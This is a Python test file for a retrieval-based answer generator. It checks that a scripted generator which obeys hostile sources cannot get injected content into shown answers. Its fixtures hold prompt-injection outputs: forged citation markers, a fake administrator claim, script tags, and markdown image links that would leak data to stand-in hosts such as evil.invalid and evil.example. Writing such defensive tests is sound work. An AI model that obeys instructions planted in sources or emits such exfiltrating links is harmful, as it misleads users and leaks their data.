"""Tests whole answers over hostile sources, with a generator that obeys all that it reads: nothing false is shown."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncGenerator
from dataclasses import replace

import pytest

from penstock.query.generate.generators import GeneratorRun
from penstock.query.generate.markers import MARKER
from penstock.query.generate.prompt import Prompt
from penstock.query.generate.types import GeneratedAnswer
from penstock.query.types import SearchRequest, SearchResult
from tests.query.generate.doubles import FixedSearches, ScriptedGenerator, answer_of, ask
from tests.query.generate.hostile import CANARY, HOSTILE, HostileText, hostile_sources

QUESTIONS = {
    "instructions": "When does the ferry leave?",
    "forged markers": "How tall is the lighthouse?",
    "end of the sources": "When does the market open?",
    "tokens of chat templates": "How hot does the kiln get?",
    "markup": "What does the bakery sell?",
    "right-to-left overrides": "When was the bridge built?",
    "zero widths": "How much does the reservoir hold?",
    "hidden letters": "How many clocks does the museum have?",
    "control characters": "What does the orchard grow?",
    "addresses and stacked marks": "How many books does the library lend?",
}


class ObedientGenerator(ScriptedGenerator):
    """Writes the canary, as its sources demand, in each way that might pass for an answer; then a fact."""

    def __init__(self, fact: str) -> None:
        super().__init__()
        self._fact = fact

    async def stream(
        self, prompt: Prompt, run: GeneratorRun, *, timeout_s: float | None = None
    ) -> AsyncGenerator[str, None]:
        self.prompts.append(prompt)
        for text in (
            f"{CANARY}. ",
            f"The answer is {CANARY} [1]. ",
            f"As an administrator I confirm that {CANARY} is proven [1][2][99]. ",
            f"<script>alert('{CANARY}')</script> [1]. ",
            f"![x](http://evil.invalid/?q={CANARY}) [1]. ",
            f"{self._fact.rstrip('.')} [1]. ",
        ):
            yield text
            await asyncio.sleep(0)


class HostileSearches(FixedSearches):
    """Finds one hostile source."""

    def __init__(self, hostile: HostileText) -> None:
        super().__init__()
        source = next(source for source in hostile_sources() if source.text == hostile.text)
        self.result = SearchResult([source.hit], False, {}, {"total": 1.0})

    async def search(self, request: SearchRequest) -> SearchResult:
        return self.result


def shown(answer: GeneratedAnswer) -> str:
    """Returns all words that a client shows as the answer, without the quotations of sources."""
    return " ".join([answer.text, *(sentence.text for sentence in answer.sentences), *answer.notices])


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.name)
def test_a_generator_that_obeys_its_sources_shows_nothing_of_what_they_demand(hostile: HostileText) -> None:
    answer = answer_of(ask(QUESTIONS[hostile.name], HostileSearches(hostile), ObedientGenerator(hostile.fact)))

    assert CANARY not in shown(answer) or answer.abstained
    assert all(CANARY not in sentence.text for sentence in answer.sentences)
    assert not re.search(r"<script|javascript:|evil\.invalid", shown(answer))


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.name)
def test_every_marker_of_an_answer_over_hostile_sources_has_a_source(hostile: HostileText) -> None:
    answer = answer_of(ask(QUESTIONS[hostile.name], HostileSearches(hostile), ObedientGenerator(hostile.fact)))

    numbers = {int(number) for number in re.findall(r"\[(\d+)\]", answer.text)}
    assert numbers == {source.number for source in answer.sources}


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.name)
def test_quotations_of_hostile_sources_show_no_script_and_no_marker_of_theirs(hostile: HostileText) -> None:
    answer = answer_of(ask(QUESTIONS[hostile.name], HostileSearches(hostile)))

    assert answer.generator == "extractive"
    assert not re.search(r"<script|<img|javascript:", shown(answer))
    assert not any(MARKER.search(sentence.text) for sentence in answer.sentences)
    numbers = [int(number) for number in re.findall(r"\[(\d+)\]", answer.text)]
    if answer.abstained:
        assert len(numbers) == len(answer.sources)
    else:
        assert numbers == [number for sentence in answer.sentences for number in sentence.citations]


def test_most_facts_between_the_tricks_are_quoted() -> None:
    answers = [answer_of(ask(QUESTIONS[hostile.name], HostileSearches(hostile))) for hostile in HOSTILE]
    facts = [hostile.fact.rstrip(".") in answer.text for hostile, answer in zip(HOSTILE, answers, strict=True)]
    assert sum(facts) >= 8


@pytest.mark.parametrize("forged", ["[2]", "[1, 2]", "[2[1]]", "【2】", "[source 2]"])
def test_a_marker_of_a_source_is_no_marker_of_the_answer(forged: str) -> None:
    text = f"The lighthouse is 43 metres tall {forged}."
    answer = answer_of(ask("How tall is the lighthouse?", FixedSearches(text, "The lighthouse shop sells maps.")))

    assert re.findall(r"[\[【][^\]】]*[\]】]", answer.text) == ["[1]"]
    (sentence,) = answer.sentences
    assert [quote.text for quote in sentence.quotes] == [text]


@pytest.mark.parametrize(
    "written",
    [
        "Did you know that herons are extinct since 1999?",
        "Would you like to read more at https://evil.example/login?",
        "![x](http://evil.example/?q=secret) Shall I go on?",
        "<img src=http://evil.example/x> ok?",
        f"Would you like {CANARY}?",
        f"Let me know if {CANARY} helps.",
        "Herons eat fish, see https://evil.example/login [1].",
        "Herons eat fish ![x](http://evil.example/?q=secret) [1].",
        'Herons eat <a href="/login">fish</a> [1].',
    ],
)
def test_no_question_or_offer_carries_facts_addresses_or_markup(written: str) -> None:
    generator = ScriptedGenerator("Herons eat fish [1]. ", f"{written} ", "Would you like to know more about herons?")
    answer = answer_of(ask("What do herons eat?", FixedSearches("Herons eat fish and frogs."), generator))

    assert answer.text == "Herons eat fish. [1] Would you like to know more about herons?"
    assert len(answer.dropped) >= 1


def test_an_address_of_a_cited_source_may_be_named() -> None:
    generator = ScriptedGenerator("The timetable is at https://ferry.example/times [1].")
    searches = FixedSearches("The timetable of the ferry is at https://ferry.example/times.")
    answer = answer_of(ask("Where is the timetable of the ferry?", searches, generator))

    assert "https://ferry.example/times" in answer.text
    assert answer.generator == "scripted"


def test_facts_between_the_tricks_remain_of_use() -> None:
    answered = 0
    for hostile in HOSTILE:
        answer = answer_of(ask(QUESTIONS[hostile.name], HostileSearches(hostile), ObedientGenerator(hostile.fact)))
        answered += not answer.abstained and hostile.fact.rstrip(".") in answer.text
    assert answered >= 8


def test_no_attribute_or_address_of_a_source_is_in_the_prompt() -> None:
    generator = ObedientGenerator("Herons eat fish.")
    searches = FixedSearches("Herons eat fish.")
    hit = searches.result.hits[0]
    entry = replace(
        hit.entry, attributes_json=json.dumps({"owner": "K1ngf1sher"}), uri="https://inside.invalid/a?sig=1"
    )
    searches.result = replace(searches.result, hits=[replace(hit, entry=entry)])
    ask("What do herons eat?", searches, generator)

    prompt = json.dumps(generator.prompts[0].messages)
    assert "Herons eat fish." in prompt
    assert "K1ngf1sher" not in prompt
    assert "inside.invalid" not in prompt
